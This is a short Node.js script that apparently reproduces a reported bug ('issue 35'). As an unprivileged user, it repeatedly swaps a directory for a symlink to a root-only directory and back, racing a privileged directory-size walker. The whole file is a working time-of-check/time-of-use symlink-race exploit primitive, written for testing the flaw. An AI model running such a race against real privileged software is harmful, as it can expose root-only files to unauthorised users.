// The size-walk swap of issue 35, played by an unprivileged user who owns PARENT: the directory
// PARENT/NAME is swapped, again and again, for a symlink to SECRET (a root-only directory) and
// back, until STOP_FILE appears. Prints how many swaps it made.
// Usage: node swap-dirs.mjs PARENT NAME SECRET STOP_FILE
import { existsSync, renameSync, symlinkSync, unlinkSync } from 'node:fs';
import process from 'node:process';

const [parent, name, secret, stopFile] = process.argv.slice(2);
const real = `${parent}/${name}`;
const aside = `${parent}/.${name}.real`;
let swaps = 0;
const cell = new Int32Array(new SharedArrayBuffer(4));
const pause = (ms) => Atomics.wait(cell, 0, 0, ms);
for (let i = 0; ; i++) {
  if (existsSync(stopFile)) break;
  try {
    renameSync(real, aside);
    symlinkSync(secret, real);
    swaps++;
    pause(3); // the link stays a while: a walker finds it
    unlinkSync(real);
    renameSync(aside, real);
    pause(3); // and the directory: a check passes
  } catch { /* lost a step: put the directory back */ try { unlinkSync(real); } catch { /* none */ } try { renameSync(aside, real); } catch { /* in place */ } }
}
process.stdout.write(`${swaps}\n`);
